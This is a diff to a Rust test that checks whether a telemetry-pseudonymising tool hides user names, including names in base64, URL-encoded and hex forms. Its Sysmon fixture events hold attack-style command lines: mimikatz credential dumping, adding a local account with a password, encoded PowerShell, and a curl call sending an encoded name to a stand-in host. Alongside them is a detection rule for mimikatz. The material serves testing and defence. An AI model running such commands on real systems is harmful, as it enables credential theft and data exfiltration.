@@ -81,7 +81,17 @@ fn no_scenario_names_anybody_outside_the_vault() {
 /// Events as a recorder wrote them: accounts in fields, command lines, paths and descriptions.
 const EVENTS: &str = r#"{"@timestamp":"2026-03-01T10:00:00Z","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Computer":"WS-7.corp.example","User":"CORP\\Jane.Doe","Image":"C:\\Users\\Jane.Doe\\AppData\\evil.exe","CommandLine":"mimikatz.exe sekurlsa::logonpasswords /user:CORP\\Otto.Kurz","ParentUser":"CORP\\jane.doe"}
 {"@timestamp":"2026-03-01T10:01:00Z","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Computer":"WS-7.corp.example","User":"NT AUTHORITY\\SYSTEM","Image":"C:\\Windows\\System32\\net.exe","CommandLine":"mimikatz & net user li.wei Secret1! /add & copy C:\\Users\\mueller\\x D:\\"}
+{"@timestamp":"2026-03-01T10:02:00Z","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Computer":"WS-7.corp.example","User":"NT AUTHORITY\\SYSTEM","Image":"C:\\Windows\\System32\\powershell.exe","CommandLine":"mimikatz & powershell -enc bgBlAHQAIAB1AHMAZQByACAAagBhAG4AZQAuAGQAbwBlACAALwBhAGMAdABpAHYAZQA= & curl http://x/?u=%6A%61%6E%65%2E%64%6F%65&v=eHggb3R0by5rdXJ6 & echo 6a616e652e646f65 li.wei7"}
 "#;
+/// Names as these events hold them in other writings.
+const ENCODED: [&str; 5] = [
+    "bgBlAHQAIAB1AHMAZQByACAAagBhAG4AZQAuAGQAbwBlACAALwBhAGMAdABpAHYAZQA=",
+    "eHggb3R0by5rdXJ6",
+    "%6A%61%6E%65%2E%64%6F%65",
+    "6a616e652e646f65",
+    "li.wei7",
+];
+
 const RULE: &str = "title: Credential dumping tool\nid: 4b6c2a3e-0000-4000-8000-000000000001\nlevel: critical\ntags: [attack.credential-access, attack.t1003.001]\n\
 logsource: {product: windows, category: process_creation}\ndetection:\n  s: {CommandLine|contains: mimikatz}\n  condition: s\n";
 
@@ -107,6 +117,11 @@ fn recorded_telemetry_names_nobody_outside_the_vault() {
     assert_eq!(export.status.code(), Some(0), "{}", stderr(&export));
     let incident = fs::read_to_string(dir.path().join("named/incident.json")).expect("exported");
     assert!(incident.to_lowercase().contains("jane.doe"));
+    for (path, bytes) in tree(&dir.path().join("case")).iter().filter(|it| !it.0.starts_with("vault")) {
+        let text = String::from_utf8_lossy(bytes);
+        let hidden: Vec<&str> = ENCODED.into_iter().filter(|it| text.contains(it)).collect();
+        assert_eq!(hidden, Vec::<&str>::new(), "{}", path.display());
+    }
     check(dir.path(), "case", 4);
     let gone = run(dir.path(), "case export case --named --out again");
     assert_eq!(gone.status.code(), Some(2), "{}", stdout(&gone));
